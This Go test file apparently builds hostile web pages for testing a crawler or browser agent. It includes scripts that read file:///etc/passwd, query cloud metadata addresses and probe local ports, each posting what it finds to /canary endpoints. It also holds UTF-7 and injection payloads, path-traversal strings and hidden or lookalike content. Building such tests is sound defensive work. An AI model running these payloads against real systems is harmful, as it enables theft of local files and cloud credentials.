package hostile

import (
	"fmt"
	"net/http"
	"strings"
)

// utf16 writes a text in UTF-16 with the lower byte first.
func utf16(s string) string {
	var b strings.Builder
	for _, c := range s {
		b.WriteByte(byte(c))
		b.WriteByte(byte(c >> 8))
	}
	return b.String()
}

// codings are pages whose letters are not what they are said to be.
var codings = []Page{
	{Name: "utf8-broken", Does: "is UTF-8 with broken and overlong letters", Ends: kept, Limit: 30, Keeps: []string{"Badplatser"}, serve: typed("text/html; charset=utf-8", "<!doctype html><title>\xff\xfe\xc0\xaf</title><h1>Badplatser</h1><p>\xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c\xbc \xed\xa0\x80 \xf8\xa1\xa1\xa1\xa1 slut</p>")},
	{Name: "utf16", Does: "is UTF-16 that nobody has said", Ends: []string{"kept", "blank"}, Limit: 30, serve: typed("text/html", utf16(plainPage))},
	{Name: "utf7", Does: "hides a script in UTF-7", Ends: kept, Limit: 30, Keeps: []string{"Badplatser"}, serve: typed("text/html; charset=utf-7", `<h1>Badplatser</h1><p>+ADw-script+AD4-fetch("/canary/utf7")+ADw-/script+AD4-</p>`)},
	{Name: "charsets", Does: "says three encodings and uses a fourth", Ends: kept, Limit: 30, Keeps: []string{"Badplatser"}, serve: typed("text/html; charset=shift_jis", "\ufeff<meta charset=koi8-r><meta http-equiv=content-type content='text/html;charset=utf-16'><h1>Badplatser</h1><p>\xe5\xe4\xf6 åäö</p>")},
	{Name: "escapes", Does: "changes its encoding within a word (ISO-2022-JP)", Ends: kept, Limit: 30, serve: typed("text/html; charset=iso-2022-jp", "<h1>Bad\x1b$B\x24\x22\x24\x24\x1b(Bplatser</h1><p title='\x1b$B'>x</p><p>\x1b(B'onmouseover=alert(1)</p>")},
	{Name: "zeros", Does: "is full of NUL bytes", Ends: kept, Limit: 30, Keeps: []string{"provtaget"}, serve: typed("text/html; charset=utf-8", "<!doctype html>\x00<title>a\x00b</title><h1>Bad\x00platser</h1><p\x00>Vattnet är provtaget.\x00</p>"+strings.Repeat("\x00", 1<<20)+"<scr\x00ipt>alert(1)</scr\x00ipt>")},
	{Name: "surrogates", Does: "holds halves of letters, and letters that are none", Ends: kept, Limit: 30, Keeps: []string{"provtaget"}, serve: script(`for (let i = 0xd7f0; i < 0xe010; i++) document.querySelector("p").append(String.fromCharCode(i)); const p = document.createElement("p"); for (const i of [0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xe0001, 0xfeff, 0x2028, 0x85, 0x7f, 1, 8, 11, 12, 27, 0xad]) p.append("\u0020" + String.fromCodePoint(i)); document.body.append(p); document.title = "\ud800" + document.title + "\uffff"`)},
	{Name: "marks", Does: "has letters with hundreds of marks", Ends: kept, Limit: 40, Keeps: []string{"Badplatser"}, serve: text(`<h1>Badplatser</h1><p>` + strings.Repeat("a"+strings.Repeat("\u0301\u0323\u20dd", 300)+" ", 50) + `</p><p>` + strings.Repeat("\U0001F468\u200d", 3000) + `</p>`)},
	{Name: "letters-all", Does: "uses every letter there is", Ends: kept, Limit: 90, Keeps: []string{"Badplatser"}, serve: script(`document.querySelector("h1").textContent = "Badplatser"; for (let b = 0; b < 0x20000; b += 256) { const p = document.createElement("p"); let s = ""; for (let i = b; i < b + 256; i++) if (i < 0xd800 || i > 0xdfff) s += String.fromCodePoint(i); p.textContent = s; document.body.append(p) }`)},
}

// looks are pages that show one thing to people and another to machines.
var looks = []Page{
	{Name: "print-hidden", Does: "hides everything where it is printed", Ends: kept, Limit: 30, Keeps: []string{"provtaget"}, serve: text(`<style>@media print{*{display:none!important}}@page{size:0 0}</style><h1>Badplatser</h1><p>Vattnet är provtaget.</p><script>onbeforeprint = () => { document.body.innerHTML = "Kapad" }; matchMedia("print").onchange = onbeforeprint</script>`), Hides: []string{"Kapad"}},
	{Name: "resize-hidden", Does: "hides everything where its window changes or is not looked at", Ends: kept, Limit: 40, serve: script(`const f = () => { document.body.style.visibility = "hidden" }; onresize = onblur = f; document.onvisibilitychange = f; new ResizeObserver(() => innerHeight > 2000 && f()).observe(document.documentElement); document.body.style.minHeight = "5000px"`)},
	{Name: "glass", Does: "lies under something that takes every click and shows nothing", Ends: kept, Limit: 40, Keeps: []string{"provtaget"}, serve: text(`<h1>Badplatser</h1><p>Vattnet är provtaget.</p><div style="position:fixed;inset:0;z-index:99999" onclick="fetch('/canary/click')"></div>`)},
	{Name: "invisible", Does: "says things that nobody sees", Ends: kept, Limit: 30, Keeps: []string{"provtaget"}, Hides: []string{"Dold ett", "Dold två"}, serve: text(`<h1>Badplatser</h1><p>Vattnet är provtaget.</p><p style="visibility:hidden">Dold ett</p><p hidden>Dold två</p><p style="opacity:0">Dold tre</p><p style="font-size:0">Dold fyra</p><p style="color:#fff">Dold fem</p><p style="position:absolute;left:-9999px">Dold sex</p><p style="clip-path:inset(100%)">Dold sju</p><p style="text-indent:-9999px">Dold åtta</p>`)},
	{Name: "direction", Does: "turns its words round with marks of direction", Ends: kept, Limit: 30, Keeps: []string{"provtaget"}, serve: text("<h1>Badplatser</h1><p>Vattnet är provtaget.</p><p>\u202eneppö\u202c och \u2066\u2067inåt\u2069\u2069 och \u202eutan slut</p><p dir=rtl>(1) <bdo dir=rtl>vänd</bdo></p>" + strings.Repeat("\u202b", 500))},
	{Name: "mirrored", Does: "is mirrored, turned and scaled", Ends: kept, Limit: 40, Keeps: []string{"provtaget"}, serve: text(`<style>body{transform:scaleX(-1) rotate(170deg) perspective(100px)}p{zoom:.1;writing-mode:vertical-rl;transform:scale(9) skew(60deg)}</style><h1>Badplatser</h1><p>Vattnet är provtaget.</p>`)},
	{Name: "lookalike", Does: "spells its name with letters that look like others", Ends: kept, Limit: 30, Keeps: []string{"Βadрlаtѕer"}, serve: text(`<title>Äӏvѕundа kоmmun</title><h1>Βadрlаtѕer</h1><p>Vattnet</p>`)},
	{Name: "visits", Does: "is another page at each visit", Ends: []string{"kept", "not-found", "blocked", "unreachable", "blank"}, Limit: 40, serve: func(s *Site, w http.ResponseWriter, r *http.Request) {
		switch n := s.visits.Add(1); n % 4 {
		case 0:
			http.NotFound(w, r)
		case 1:
			s.html(w, r, fmt.Sprintf("<h1>Besök %d</h1>", n))
		case 2:
			http.Error(w, "Nej", http.StatusForbidden)
		default:
			s.html(w, r, `<main role="feed">`+post("ett", 1)+`</main>`)
		}
	}},
	{Name: "glyphs", Does: "writes its words with a font that shows others", Ends: kept, Limit: 30, Keeps: []string{"Badplatser"}, serve: text("<h1>Badplatser</h1><p>\ue000\ue001\uf8ff \U000f0000</p><p style=\"font-family:Wingdings,Symbol\">Vattnet</p><style>p::before{content:\"Kapad\";position:absolute}p{text-transform:uppercase;font-variant:small-caps}</style>")},
	{Name: "names-taken", Does: "has a folder's and a file's names for names", Ends: kept, Limit: 40, Keeps: []string{"Ett inlägg"}, serve: text(`<title>../../../../etc/passwd</title><main role="feed"><article role="article" id="../../x" data-id="/etc/x"><h2>../../../<b>x</b></h2><a href="/good/..%2f..%2f..%2fetc%2fpasswd"><time datetime="2026-10-01T08:00">1 okt</time></a><p>Ett inlägg</p><img src="/good/..%5c..%5cx.png?../../y" width="300" height="200"></article></main>`)},
}

// reaches are pages that try to get at what is beside them.
var reaches = []Page{
	{Name: "files", Does: "reads files of this machine", Ends: kept, Limit: 40, Quick: true, Keeps: []string{"provtaget"}, serve: script(`const out = t => t && /root:|localhost/.test(t) && fetch("/canary/file", { method: "POST", body: t });
for (const f of ["file:///etc/passwd", "file:///etc/hosts", "file://localhost/etc/passwd", "filesystem:file:///etc/passwd", "view-source:file:///etc/passwd", "jar:file:///etc/passwd"]) { fetch(f).then(r => r.text()).then(out, () => 0); try { const x = new XMLHttpRequest(); x.open("GET", f); x.onload = () => out(x.responseText); x.send() } catch {}
for (const t of ["iframe", "embed", "object", "img", "script", "video", "track"]) { const e = document.createElement(t); e.src = e.data = f; e.onload = () => { try { out(e.contentDocument.body.innerText) } catch {} }; document.body.append(e) } const l = document.createElement("link"); l.rel = "stylesheet"; l.href = f; document.head.append(l); try { new Worker(f) } catch {} try { open(f) } catch {} try { location.href = f } catch {} }`)},
	{Name: "metadata", Does: "asks the addresses where clouds keep their keys", Ends: kept, Limit: 40, Keeps: []string{"provtaget"}, serve: script(`for (const h of ["169.254.169.254", "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]", "169.254.170.2", "192.0.0.192", "2852039166", "0xa9fea9fe", "[::ffff:a9fe:a9fe]"]) { const u = "http://" + h + "/latest/meta-data/"; fetch(u, { mode: "no-cors", headers: { Metadata: "true" } }).catch(() => 0); fetch(u).then(r => r.text()).then(t => /refused|proxy|allowed/i.test(t) || fetch("/canary/metadata", { method: "POST", body: t }), () => 0); const f = document.createElement("iframe"); f.src = u; document.body.append(f); new Image().src = u; navigator.sendBeacon(u, "x") }`)},
	{Name: "neighbours", Does: "knocks at ports of this machine and of the network", Ends: kept, Limit: 60, Keeps: []string{"provtaget"}, serve: script(`for (const h of ["CANARY", "CANARY".replace("127.0.0.1", "localhost"), "CANARY".replace("127.0.0.1", "127.1"), "CANARY".replace("127.0.0.1", "[::ffff:127.0.0.1]"), "CANARY".replace("127.0.0.1", "0.0.0.0"), "127.0.0.1:22", "127.0.0.1:9222", "10.0.0.1", "192.168.1.1", "[::1]:80"]) { fetch("http://" + h + "/", { method: "POST", mode: "no-cors", body: "x" }).catch(() => 0); try { new WebSocket("ws://" + h + "/") } catch {} const f = document.createElement("iframe"); f.src = "http://" + h; document.body.append(f); for (const r of ["prefetch", "preconnect", "dns-prefetch", "preload", "prerender"]) { const l = document.createElement("link"); l.rel = r; l.as = "script"; l.href = "http://" + h; document.head.append(l) } }`)},
	{Name: "forms", Does: "has forms, buttons and links that must not be pressed", Ends: kept, Limit: 60, Keeps: []string{"Ett inlägg"}, serve: text(`<main role="feed"><article role="article"><h2>Älvsunda</h2><time datetime="2026-10-01T08:00">1 okt</time><p>Ett inlägg</p><form method="post" action="/canary/form"><button>Visa fler kommentarer</button><textarea name="t"></textarea></form><button onclick="fetch('/canary/like',{method:'POST'})">Gilla</button><a href="/canary/follow" role="button">Följ</a><button onclick="fetch('/canary/share')">Dela</button><form action="/canary/get"><input name="svar"><button>Svara</button></form><a href="/canary/delete">Ta bort</a><button onclick="fetch('/canary/report')">Anmäl</button></article></main>`)},
	{Name: "browser-pages", Does: "opens the browser's own pages", Ends: kept, Limit: 40, Keeps: []string{"provtaget"}, serve: script(`for (const a of ["chrome://settings", "chrome://version", "devtools://devtools/bundled/inspector.html", "chrome-extension://x/y", "about:settings", "view-source:" + location]) { try { open(a) } catch {} const f = document.createElement("iframe"); f.src = a; f.onload = () => { try { /version|Chrom/i.test(f.contentDocument.body.innerText) && fetch("/canary/own") } catch {} }; document.body.append(f); fetch(a).then(r => r.text()).then(t => fetch("/canary/own", { method: "POST", body: t }), () => 0) }`)},
}
